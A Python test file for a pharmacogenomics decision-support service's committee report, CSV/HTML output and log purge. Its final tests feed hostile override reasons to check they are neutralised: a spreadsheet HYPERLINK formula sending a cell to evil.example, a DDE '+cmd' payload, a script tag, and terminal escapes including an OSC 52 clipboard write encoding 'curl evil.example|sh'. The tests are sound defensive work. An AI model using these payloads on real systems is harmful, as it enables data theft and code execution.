"""``pgx-cds report`` over a seeded month: the figures a committee reads, as a table, CSV and
an HTML page whose charts are inline SVG; ``pgx-cds purge`` keeps only the retention."""

from __future__ import annotations

import csv
import io
import re
import xml.etree.ElementTree as ET
from datetime import UTC, datetime, timedelta

import pytest
from builders import APAP_CODEINE, hook_request, med_order, phenotype_obs, with_results
from report_history import (
    OCTOBER,
    assert_report_matches_the_seeded_month,
    seed,
)
from sqlalchemy import func, select

from cds_service.cli import main
from cds_service.governance.report import build, text, wilson, write_csv
from cds_service.governance.report_page import html_page
from cds_service.store import schema
from cds_service.store.card_log import purge
from cds_service.store.feedback import FeedbackStore
from cds_service.store.tables import card_log_table, feedback_table


@pytest.fixture
def store(settings) -> FeedbackStore:
    store = FeedbackStore(settings.database_url)
    schema.upgrade(store.engine)
    seed(store)
    return store


def test_wilson_interval_matches_newcombe_1998():
    # Newcombe, Stat Med 1998;17:857-72, Table I (method 3)
    for (successes, n), (low, high) in {
        (81, 263): (0.2553, 0.3662),
        (15, 148): (0.0624, 0.1605),
        (0, 20): (0.0, 0.1611),
        (1, 29): (0.0061, 0.1718),
    }.items():
        found = wilson(successes, n)
        assert found is not None
        assert (round(found[0], 4), round(found[1], 4)) == (low, high)
    assert wilson(0, 0) is None


def test_report_figures_match_the_seeded_month(store):
    assert_report_matches_the_seeded_month(store)


def test_retried_feedback_is_stored_once(store):
    with store.engine.connect() as conn:
        c1 = conn.execute(
            select(func.count()).where(feedback_table.c.card_uuid == "c1")
        ).scalar_one()
    assert c1 == 1


def test_terminal_table_and_csv(store, tmp_path, knowledge):
    rep = build(store.engine, *OCTOBER, knowledge)
    table = text(rep)
    codeine = next(line for line in table.splitlines() if re.match(r"codeine +\d", line))
    assert codeine.split()[1:9] == ["14", "10", "4", "5", "3", "2", "10", "70.0"]
    assert codeine.endswith("37.5% (13.7%–69.4%)")
    # a row per recommendation, labelled from the knowledge: UM and PM not mixed
    um = next(line for line in table.splitlines() if line.startswith("codeine / CYP2D6: Ultra"))
    pm = next(line for line in table.splitlines() if line.startswith("codeine / CYP2D6: Poor"))
    assert um.split()[5:13] == ["7", "5", "2", "2", "3", "0", "7", "35.0"]
    assert pm.split()[5:13] == ["7", "5", "2", "3", "0", "2", "7", "35.0"]
    assert "Hook calls: 900 (pgx-order-select 300, pgx-order-sign 100, pgx-patient-view 500)" in (
        table
    )
    assert "orders judged: 1,000, 350 of them for a drug the knowledge covers." in table
    assert "2  Benefit outweighs the risk for this patient" in table
    assert "1  (no reason given)" in table
    assert "overrides with a comment: 2" in table

    path = tmp_path / "report.csv"
    write_csv(rep, path)
    rows = list(csv.DictReader(io.StringIO(path.read_text())))
    by = {(r["by"], r["recommendation"] or r["drug"] or r["indicator"]): r for r in rows}
    codeine_row = by[("drug", "codeine")]
    assert [codeine_row[k] for k in ("issued", "shown", "silent", "accepted", "overridden")] == [
        "14",
        "10",
        "4",
        "5",
        "3",
    ]
    assert (codeine_row["no_feedback"], codeine_row["patients"]) == ("2", "10")
    assert (codeine_row["orders"], codeine_row["per_1000_orders"]) == ("200", "70.00")
    assert (codeine_row["override_rate"], codeine_row["ci_low"], codeine_row["ci_high"]) == (
        "0.3750",
        "0.1368",
        "0.6943",
    )
    assert codeine_row["top_reasons"] == "benefit-outweighs-risk (2); tolerated-before (1)"
    um_row = by[("recommendation", "codeine-cyp2d6-um")]
    assert (um_row["genes"], um_row["finding"], um_row["advice"], um_row["indicator"]) == (
        "CYP2D6",
        "Ultrarapid Metabolizer",
        "avoid",
        "critical",
    )
    assert by[("drug", "celecoxib")]["override_rate"] == ""
    assert by[("indicator", "warning")]["issued"] == "11"
    assert by[("all", "")]["overridden"] == "5"


def _svgs(page: str) -> list[ET.Element]:
    return [ET.fromstring(m) for m in re.findall(r"<svg .*?</svg>", page, re.DOTALL)]


def test_html_report_draws_its_charts_as_inline_svg(store, knowledge):
    page = html_page(build(store.engine, *OCTOBER, knowledge))
    charts = _svgs(page)  # well-formed XML, drawn by the service itself
    ns = "{http://www.w3.org/2000/svg}"
    assert [c.get("aria-label") for c in charts] == [
        "Cards issued per week (shown and silent), by drug",
        "Override rate by recommendation, % of cards with feedback (95% Wilson CI)",
        "Override reasons (overridden cards)",
    ]
    weekly, rates, reasons = charts
    assert len(weekly.findall(f"{ns}rect")) >= 5 + 3  # bars of 5 weeks and a legend of 3 drugs
    assert len(rates.findall(f"{ns}circle")) == 3  # codeine UM, codeine PM, tramadol
    assert len(reasons.findall(f"{ns}rect")) == 4
    assert "<img" not in page and "data:image" not in page
    assert "http" not in page.split("<body>")[1].replace("http://www.w3.org/2000/svg", "")
    assert "37.5% (13.7%–69.4%)" in page
    assert '<td class="t">Ultrarapid Metabolizer</td>' in page


def test_html_report_escapes_what_it_shows(settings):
    store = FeedbackStore(settings.database_url)
    schema.upgrade(store.engine)
    item = {
        "card": "x",
        "outcome": "overridden",
        "overrideReason": {"reason": {"code": "<script>alert(1)</script>", "display": "<b>"}},
        "outcomeTimestamp": "2026-10-02T10:00:00Z",
    }
    store.store("pgx-order-select", {"feedback": [item]})
    page = html_page(build(store.engine, *OCTOBER))
    assert "<script>" not in page


def test_report_command_writes_csv_and_html(store, settings, tmp_path, monkeypatch, capsys):
    monkeypatch.setenv("PGX_CDS_DATABASE_URL", settings.database_url)
    out_csv, out_html = tmp_path / "r.csv", tmp_path / "r.html"
    argv = ["report", "--since", "2026-10-01", "--until", "2026-10-31"]
    assert main([*argv, "--csv", str(out_csv), "--html", str(out_html)]) == 0
    printed = capsys.readouterr().out
    assert "Cards issued 2026-10-01 to 2026-10-31" in printed
    assert out_csv.read_text().startswith("by,recommendation,drug,genes,finding,advice")
    assert out_html.read_text().count("<svg ") == 3
    # to standard output (kubectl exec ... > report.html): the page alone, the table aside
    assert main([*argv, "--html", "-"]) == 0
    out = capsys.readouterr()
    assert out.out.startswith("<!DOCTYPE html>") and out.out.rstrip().endswith("</html>")
    assert "Cards issued 2026-10-01 to 2026-10-31" in out.err
    assert main(["report", "--since", "2025-01-01", "--until", "2025-01-31"]) == 0
    assert "No cards were issued in this period." in capsys.readouterr().out
    assert main(["report", "--since", "2026-11-02", "--until", "2026-11-01"]) == 2
    with pytest.raises(SystemExit):
        main(["report", "--since", "October"])


def test_silent_go_live_as_a_committee_tries_it(tmp_path, settings, monkeypatch, capsys):
    """Silent mode on: hook calls return nothing while the log grows; the report counts them."""
    from cds_service.web.app import create_app

    site = tmp_path / "site.json"
    site.write_text('{"silent": true}')
    client = create_app(settings.model_copy(update={"site_config": site})).test_client()
    um = phenotype_obs("Ultrarapid Metabolizer")
    for patient in ("a", "b", "a"):
        body = hook_request(
            "order-select",
            [med_order(APAP_CODEINE, patient=patient)],
            prefetch=with_results({**um, "subject": {"reference": f"Patient/{patient}"}}),
            patient=patient,
        )
        assert client.post("/cds-services/pgx-order-select", json=body).get_json() == {"cards": []}
    client.application.extensions["pgx"].store.card_log.flush()  # written in the background
    client.application.extensions["pgx"].engine.call_counts.flush()  # (once a minute)
    monkeypatch.setenv("PGX_CDS_DATABASE_URL", settings.database_url)
    assert main(["report"]) == 0
    printed = capsys.readouterr().out
    line = next(x for x in printed.splitlines() if x.startswith("codeine / CYP2D6: Ultra"))
    # issued 3, shown 0, silent 3, no feedback, two patients; 3 cards for 3 codeine orders
    assert line.split()[5:13] == ["3", "0", "3", "0", "0", "0", "2", "1000.0"]
    assert "Hook calls: 3 (pgx-order-select 3); orders judged: 3" in printed


def test_purge_keeps_only_the_retention(store, settings, monkeypatch, capsys):
    now = datetime(2026, 11, 1, 12, 0, tzinfo=UTC)
    with store.engine.connect() as conn:
        before = conn.execute(select(func.count()).select_from(card_log_table)).scalar_one()
    cards, items = purge(store.engine, 15, now=now)  # keep from 2026-10-17 12:00
    with store.engine.connect() as conn:
        left = [r[0] for r in conn.execute(select(card_log_table.c.issued_at))]
        received = [r[0] for r in conn.execute(select(feedback_table.c.card_uuid))]
    assert cards == before - len(left) and len(left) == 10
    assert min(t.replace(tzinfo=UTC) for t in left) >= now - timedelta(days=15)
    # feedback goes by when it was received: the seeded items today, "never-issued" in October
    assert items == 1 and "never-issued" not in received and len(received) == 13

    monkeypatch.setenv("PGX_CDS_DATABASE_URL", settings.database_url)
    assert main(["purge"]) == 2  # neither --days nor PGX_CDS_RETENTION_DAYS
    assert "PGX_CDS_RETENTION_DAYS" in capsys.readouterr().err
    monkeypatch.setenv("PGX_CDS_RETENTION_DAYS", "1")
    assert main(["purge"]) == 0  # every seeded card is older than a day
    assert "deleted 10 card log row(s) and 0 feedback item(s)" in capsys.readouterr().out
    assert main(["purge", "--days", "0"]) == 2


# -- issue 26, item 9: the report as a target ------------------------------------------------


def _overridden_with(store: FeedbackStore, *reasons: dict) -> None:
    """Cards issued in October, each overridden with one of ``reasons`` (as a caller sent)."""
    from sqlalchemy import insert

    with store.engine.begin() as conn:
        conn.execute(
            insert(card_log_table),
            [
                {
                    "card_uuid": f"hostile-{i}",
                    "issued_at": datetime(2026, 10, 2, tzinfo=UTC),
                    "hook": "order-select",
                    "service_id": "pgx-order-select",
                    "drug": "codeine",
                    "genes": "CYP2D6",
                    "phenotype": "UM",
                    "recommendation_id": "codeine-cyp2d6-um",
                    "indicator": "critical",
                    "knowledge_version": "v",
                    "shown": True,
                    "patient_hash": "p" * 64,
                    "order_hash": f"{i:064d}",
                }
                for i in range(len(reasons))
            ],
        )
    items = [
        {
            "card": f"hostile-{i}",
            "outcome": "overridden",
            "overrideReason": {"reason": reason},
            "outcomeTimestamp": "2026-10-02T10:00:00Z",
        }
        for i, reason in enumerate(reasons)
    ]
    store.store("pgx-order-select", {"feedback": items})


@pytest.fixture
def empty_store(settings) -> FeedbackStore:
    store = FeedbackStore(settings.database_url)
    schema.upgrade(store.engine)
    return store


FORMULA = '=HYPERLINK("https://evil.example/?x="&A1,"Click for details")'


def test_a_reason_code_never_becomes_a_spreadsheet_formula(empty_store, tmp_path):
    _overridden_with(empty_store, {"code": FORMULA}, {"code": "+cmd|' /C calc'!A0"})
    path = tmp_path / "report.csv"
    write_csv(build(empty_store.engine, *OCTOBER), path)
    cells = [cell for row in csv.reader(path.open(encoding="utf-8")) for cell in row]
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert any(c.startswith("'=HYPERLINK") or c.startswith("'+cmd") for c in cells)


def test_terminal_escape_sequences_do_not_reach_the_terminal(empty_store):
    clipboard = "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGV8c2g=\x07"  # OSC 52: write the clipboard
    _overridden_with(
        empty_store,
        {"code": f"x{clipboard}"},
        {"code": "y", "display": "\x1b[2J\x1b[31mcleared\u202e"},
    )
    table = text(build(empty_store.engine, *OCTOBER))
    assert "\x1b" not in table and "\x07" not in table and "\u202e" not in table
    assert "cleared" in table  # the words are still shown


def test_math_text_in_a_reason_does_not_fail_the_html_page(empty_store):
    """One reason holding `$\\undefinedcommand$` failed --html for the whole period."""
    _overridden_with(
        empty_store, {"code": "$\\undefinedcommand$"}, {"code": "z", "display": "$x^{$"}
    )
    page = html_page(build(empty_store.engine, *OCTOBER))
    assert "$\\undefinedcommand$" in page and len(_svgs(page)) == 3


def test_a_caller_cannot_rename_the_services_own_reasons(empty_store):
    from cds_service.clinical.cards import OVERRIDE_REASONS

    code, label = OVERRIDE_REASONS[0]
    _overridden_with(empty_store, {"code": code, "display": "Alert is wrong, ignore it"})
    report = build(empty_store.engine, *OCTOBER)
    assert report.reason_label(code) == label
    assert "Alert is wrong" not in text(report) and label in text(report)
